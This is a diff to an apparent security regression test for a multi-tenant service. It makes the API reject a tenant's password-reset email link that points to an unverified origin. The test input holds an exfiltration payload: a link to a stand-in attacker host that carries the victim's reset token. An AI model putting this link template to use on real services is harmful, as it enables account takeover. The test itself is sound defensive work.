@@ -53,11 +53,12 @@ describe('attack 1: a tenant admin takes over an account through a reset link of
       const members = await call(attacker, 'GET', `/tenants/${evil}/members`)
       expect(members.json().map((m: { email: string }) => m.email)).not.toContain(victim.user.email)
 
-      // step 2: the attacker may brand their own tenant's emails as they like
+      // step 2: the attacker's tenant is a brand, but its token links go only to origins verified for it
       const patched = await call(attacker, 'PATCH', `/tenants/${evil}`, {
         emailConfig: { emailTypeConfig: { passwordReset: { ctaLink: 'https://evil.example/steal?t={{resetToken}}' } } },
       })
-      expect(patched.statusCode).toBe(200)
+      expect(patched.statusCode).toBe(400)
+      expect(errorBody(patched).details?.[0]?.field).toBe('emailConfig.emailTypeConfig.passwordReset.ctaLink')
 
       // step 3: a reset under the attacker's tenant reaches nobody: the victim has no account there
       const before = (await mailTo(victim.user.email)).length
